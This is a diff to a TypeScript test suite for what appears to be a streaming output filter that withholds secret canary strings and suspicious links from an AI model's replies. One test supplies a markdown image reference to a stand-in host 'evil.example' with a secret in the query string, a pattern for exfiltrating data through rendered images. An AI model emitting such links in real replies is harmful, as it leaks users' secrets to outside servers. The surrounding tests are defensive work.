@@ -67,7 +67,7 @@ const fragments = fc.constantFrom(
   canary.slice(0, 9),
   canary.slice(9),
   canary,
-  [...canary].join(' '),
+  canary.split('').join(' '),
   '\u{1f600}',
   '\ud83d',
 );
@@ -84,8 +84,9 @@ describe('a gate for replies', () => {
       fc.property(replies, cuts, (reply, places) => {
         const whole = through([reply]);
         expect(judged(through(cut(reply, places)).result)).toEqual(judged(whole.result));
-        expect(judged(through([...reply].map(String)).result)).toEqual(judged(whole.result));
+        expect(judged(through(reply.split('')).result)).toEqual(judged(whole.result));
       }),
+      { numRuns: 50 },
     );
   });
 
@@ -93,8 +94,8 @@ describe('a gate for replies', () => {
     fc.assert(
       fc.property(replies, cuts, (reply, places) => {
         const { shown, result } = through(cut(reply, places));
-        if (result.verdict === 'benign') expect(shown).toBe(reply);
-        else expect(reply.startsWith(shown)).toBe(true);
+        const expected = result.verdict === 'benign' ? reply : reply.slice(0, shown.length);
+        expect(shown).toBe(expected);
       }),
     );
   });
@@ -103,11 +104,12 @@ describe('a gate for replies', () => {
     fc.assert(
       fc.property(replies, cuts, (reply, places) => {
         const { shown, result } = through(cut(reply, places));
-        for (const { title, span } of result.detections) {
-          if (!title.includes('pieces')) expect(shown.length).toBeLessThanOrEqual(span.start);
-        }
+        const first = result.detections
+          .filter(({ title }) => !title.includes('pieces'))
+          .map(({ span }) => span.start);
+        expect(shown.length).toBeLessThanOrEqual(Math.min(reply.length, ...first));
       }),
-      { numRuns: 500 },
+      { numRuns: 200 },
     );
   });
 
@@ -117,5 +119,90 @@ describe('a gate for replies', () => {
         expect(through(cut(reply, places)).result.detections).toEqual(checkOutput(reply, options));
       }),
     );
+  });
+
+  it('shows what comes before a finding at once and withholds the rest', () => {
+    const gate = new OutputGate({ canaries: [canary] });
+    expect(gate.push('Sure. The note says ')).toBe('Sure. The note says ');
+    expect(gate.push(canary.slice(0, 10))).toBe('');
+    expect(gate.push(canary.slice(10))).toBe('');
+    expect(gate.push(' and more.')).toBe('');
+    expect(gate.blocked).toBe(true);
+    expect(gate.end()).toMatchObject({ text: '', result: { verdict: 'malicious' } });
+  });
+
+  it('lets text go as soon as it can no longer become a finding', () => {
+    const gate = new OutputGate({ canaries: [canary] });
+    expect(gate.push('see pbc-')).toBe('see ');
+    expect(gate.push('files.')).toBe('pbc-files.');
+  });
+
+  it('holds a URL until it has ended', () => {
+    const gate = new OutputGate();
+    expect(gate.push('It is at htt')).toBe('It is at ');
+    expect(gate.push('ps://docs.example.com/guide')).toBe('');
+    expect(gate.push(' now.')).toBe('https://docs.example.com/guide now.');
+  });
+
+  it('withholds a reference that an earlier image uses', () => {
+    const { shown, result } = through([
+      '![x][r]\n\n',
+      '[r]: https://evil.ex',
+      'ample/?d=secretvalue\n',
+    ]);
+    expect(shown).toBe('![x][r]\n\n[r]: ');
+    expect(result.detections.map(({ id }) => id)).toEqual(['PB-EXFIL-IMAGE']);
+  });
+
+  it('shows the end of a reply after all when its references turn out to be harmless', () => {
+    const reply = '[docs][r]\n\n[r]: https://example.com/?d=secretvalue\n\nThat is all.';
+    expect(through(reply.split(/(?= )/))).toMatchObject({
+      shown: reply,
+      result: { verdict: 'benign' },
+    });
+  });
+
+  it('takes a target that is too long to be held back for a finding', () => {
+    const value = 'word '.repeat(30);
+    const reply = `<p style="${value}">text`;
+    for (const pieces of [[reply], reply.split('')]) {
+      const { shown, result } = through(pieces, { mostHeld: 100 });
+      expect(result.detections.map(({ id }) => id)).toEqual(['PB-OVERFLOW']);
+      expect(shown).not.toContain('word');
+    }
+  });
+
+  it('does not hold a picture that stands in the text', () => {
+    const reply = `![x](data:image/png;base64,${'iVBORw0K'.repeat(2000)})`;
+    expect(through(cut(reply, [50, 9000, 12000]))).toMatchObject({
+      shown: reply,
+      result: { verdict: 'benign' },
+    });
+  });
+
+  it('reads a reply up to a length and withholds what is beyond', () => {
+    for (const pieces of [
+      ['abcdefgh', 'ij'],
+      ['abc', 'defghij'],
+    ]) {
+      const { shown, result } = through(pieces, { longest: 8 });
+      expect(shown.length).toBeLessThanOrEqual(8);
+      expect(result).toMatchObject({ verdict: 'suspicious', inputLength: 8 });
+    }
+  });
+
+  it('leaves the verdict to the scanner that it is given', () => {
+    const benign: ScanResult = {
+      verdict: 'benign',
+      score: 0,
+      detections: [],
+      scope: 'output',
+      inputLength: 0,
+      notes: [],
+    };
+    const reply = `The word is ${canary}.`;
+    const { shown, before } = through([reply], { canaries: [canary], scan: () => benign });
+    expect(before).toBe('The word is ');
+    expect(shown).toBe(reply);
   });
 });
